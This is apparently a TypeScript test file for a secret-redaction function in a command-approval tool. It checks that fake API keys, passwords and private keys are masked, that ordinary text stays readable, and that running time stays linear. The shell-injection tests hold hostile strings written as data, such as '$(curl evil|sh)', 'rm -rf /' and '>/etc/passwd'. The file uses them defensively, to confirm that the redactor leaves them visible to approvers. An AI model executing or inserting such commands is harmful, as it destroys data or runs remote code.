import { escapeInvisible } from "@haft/utils";
import { generateKeyPairSync } from "node:crypto";
import { describe, expect, test } from "vitest";
import { formatApproval } from "../../src/approvals/format-approval.ts";
import { promptText } from "../../src/approvals/preview.ts";
import { contentToText } from "../../src/contract/result.ts";
import { redactSecrets } from "../../src/format/redact.ts";
import { openAskingSession, createRequest } from "../support/approvals.ts";

describe("secrets", () => {
  const pem = generateKeyPairSync("rsa", { modulusLength: 2048 }).privateKey.export({
    type: "pkcs8",
    format: "pem",
  });
  const digits = "1a2B3c4D5e6F7g8H9i0J".repeat(3);
  const secrets: [string, string, string][] = [
    ["OpenAI", `sk-proj-${digits}`, digits],
    ["Anthropic", `sk-ant-api03-${digits}`, digits],
    ["Stripe", `sk_live_${digits}`, digits],
    ["GitHub", `ghp_${digits}`, digits],
    ["GitHub, fine-grained", `github_pat_${digits}`, digits],
    ["GitLab", `glpat-${digits}`, digits],
    ["Slack", `xoxb-${digits}`, digits],
    ["AWS id", "AKIAIOSFODNN7EXAMPLE", "IOSFODNN"],
    ["AWS secret", "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "wJalr"],
    ["Google", `AIza${digits}`, digits],
    ["Google OAuth", `ya29.${digits}`, digits],
    ["npm", `npm_${digits}`, digits],
    ["PyPI", `pypi-${digits}`, digits],
    ["Hugging Face", `hf_${digits}`, digits],
    ["SendGrid", `SG.${digits}.${digits}`, digits],
    ["Telegram", `123456789:AA${digits}`, digits],
    ["age", `AGE-SECRET-KEY-1${"QPZRY9X8".repeat(7)}`, "QPZRY9X8"],
    ["JWT", `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.${digits}`, digits],
    ["bearer", `curl -H "Authorization: Bearer ${digits}" x`, digits],
    [
      "basic, in JSON",
      JSON.stringify({ command: 'curl -H "Authorization: Basic dXNlcjpwYXNz"' }),
      "dXNlcjpwYXNz",
    ],
    ["header of an API key", "curl -H 'X-Api-Key: abc123def456' x", "abc123def456"],
    ["URL", "psql postgres://admin:hunter2@db/prod", "hunter2"],
    ["curl -u", "curl -u admin:hunter2 x", "hunter2"],
    ["environment", "DB_PASSWORD=hunter22 ./run", "hunter22"],
    ["environment, in JSON", JSON.stringify({ command: "export TOKEN=abcdefgh\nrun" }), "abcdefgh"],
    ["query", "https://x/?access_token=abcdefgh&a=1", "abcdefgh"],
    ["JSON", '{"password": "correct-horse-battery"}', "horse"],
    ["JSON in JSON", JSON.stringify({ body: '{"password":"correct-horse"}' }), "horse"],
    ["YAML", "password: hunter22", "hunter22"],
    ["flag", "mysql --password hunter2 db", "hunter2"],
    ["flag, quoted", "mysql --password 'my$long{pass' db", "long"],
    ["private key", pem, pem.split("\n")[3]!],
    ["private key, its last line", pem, pem.trimEnd().split("\n").at(-2)!],
    ["private key, in JSON", JSON.stringify({ content: pem }), pem.split("\n")[3]!],
  ];

  test.for(secrets)("are masked: %s", ([, shown, secret]) => {
    const covered = redactSecrets(`before ${shown} after`);
    expect(covered).toContain("[secret]");
    expect(covered).not.toContain(secret);
    expect(covered).toMatch(/^before .* after$/s);
    expect(redactSecrets(covered)).toBe(covered);
  });

  test("are masked in a request, its prompt, its offers and its answer", async () => {
    const { session, act } = await openAskingSession();
    const outcome = await act(`curl -H "Authorization: Bearer ${digits}"`);
    expect(contentToText(outcome.content)).not.toContain(digits);
    expect(contentToText(session.pendingApprovals()[0]!.preview)).not.toContain(digits);
    const prompt = formatApproval(
      createRequest({ reason: `It says ghp_${digits}.`, noAlways: `ghp_${digits}`, offers: [] }),
    );
    expect(prompt).not.toContain(digits);
  });

  test("are masked at the cut of a long text", () => {
    const shown = promptText(`${"x ".repeat(7880)}ghp_${digits}${" y".repeat(10_000)}`);
    expect(shown).not.toMatch(/ghp_/);
  });
});

describe("text without secrets", () => {
  test.for([
    "git show 3f786850e387550fdab836ed7e6dc881de23001b",
    "sha256sum -c e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "git commit -m 'fix token handling in the password form'",
    "the token expires tomorrow, and the secret is out",
    "basic authentication with a bearer certificate",
    "kubectl get secret my-app --namespace default",
    "docker run -u 1000:1000 --rm image:1.2.3",
    "cat src/token/index.ts packages/credentials/README.md",
    "const token = getToken();",
    "interface Login { password: string; token: Promise<string> }",
    "--max-tokens 4096 --temperature 0",
    "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519",
    "TOKEN=$OTHER_TOKEN ./run",
    "curl https://example.com:8080/path@2x.png",
    "npx create-token-app my-app",
    "sk-learn and task-runner-with-a-long-name",
    "uuid 123e4567-e89b-12d3-a456-426614174000",
    "-----BEGIN PUBLIC KEY-----",
  ])("stays readable: %s", (ordinary) => {
    expect(redactSecrets(ordinary)).toBe(ordinary);
  });
});

describe("text that a shell would execute", () => {
  test.for([
    ["password=$(curl evil|sh)", "$(curl evil|sh)"],
    ['password="$(curl evil|sh)"', "$(curl evil|sh)"],
    ["token=`reboot --now`", "`reboot --now`"],
    ["TOKEN=abcdefgh$(rm${IFS}-rf)", "$(rm${IFS}-rf)"],
    ["TOKEN=abcdefgh;reboot", ";reboot"],
    ["TOKEN=abcdefgh&&reboot", "&&reboot"],
    ["TOKEN=abcdefgh|sh", "|sh"],
    ["TOKEN=abcdefgh>/etc/passwd", ">/etc/passwd"],
    ["TOKEN=abcdefgh\nreboot", "\nreboot"],
    ["https://user:$(reboot)@host", "$(reboot)"],
    ["curl -u me:$(reboot) x", "$(reboot)"],
    ["--password $(reboot)", "$(reboot)"],
    ["Authorization: Bearer $(reboot)", "$(reboot)"],
    [": -----BEGIN PRIVATE KEY-----\nreboot\n: -----END PRIVATE KEY-----", "\nreboot\n"],
    [": -----BEGIN PRIVATE KEY-----\nrm -rf /\n: -----END PRIVATE KEY-----", "\nrm -rf /\n"],
  ])("is not masked: %j", ([command, acts]) => {
    expect(redactSecrets(command!)).toContain(acts);
    expect(promptText(command!)).toContain(acts);
  });
});

describe("hostile texts", () => {
  const pieces = [
    "-",
    "a",
    " ",
    "\\",
    "\n",
    "sk-",
    "sk-a-",
    "eyJ-",
    "eyJa.",
    "token=",
    'token="',
    "token: a",
    "token=  ",
    "--token ",
    "-token",
    'password \\\\\\"',
    "-----BEGIN PRIVATE KEY-----\n",
    "-----BEGIN PRIVATE KEY-----\nAAAAAAAA ",
    "-----BEGIN ",
    "://",
    "://a:b",
    "-u a:",
    "basic ",
    "authorization: ",
    "SG.aaaaaaaaaaaaaaaaa-",
    "mysql ",
    "mysql -p",
    " -p",
    " -pa ",
    "curl -u a:",
    "curl -u 'a:",
    "openssl -k ",
    "docker login ",
    "sshpass -v ",
    "htpasswd -b a ",
    "A_",
    "TOKEN=",
    'TOKEN="',
    "x-a-",
    "cookie: a",
    "-----BEGIN PRIVATE KEY-----A",
    "-----BEGIN PRIVATE KEY-----\nA\n",
    "12345678:",
    "\u001b]",
    "\u200b",
    "`",
  ];

  const [short, long] = [4_000, 32_000];
  /** Between eight, as the lengths, and sixty-four, their square. */
  const bound = 24;

  /** Processor time of this process alone: what others do on the machine is not in it. */
  function effortOf(run: () => unknown): number {
    const before = process.cpuUsage();
    run();
    const { user, system } = process.cpuUsage(before);
    return user + system;
  }

  test.for(pieces)("take time in proportion to their length: %j", (piece) => {
    const hostile = (length: number) => piece.repeat(length / piece.length);
    for (const cover of [redactSecrets, escapeInvisible]) {
      cover(hostile(short));
      // What collects garbage and compiles meanwhile only adds: the least of all rounds counts, and rounds are
      // made until it is enough.
      let [least, most] = [Infinity, Infinity];
      for (let round = 0; round < 20 && !(most < bound * Math.max(least, 500)); round++) {
        least = Math.min(
          least,
          effortOf(() => cover(hostile(short))),
        );
        most = Math.min(
          most,
          effortOf(() => cover(hostile(long))),
        );
      }
      expect(most / Math.max(least, 500)).toBeLessThan(bound);
    }
  });
});
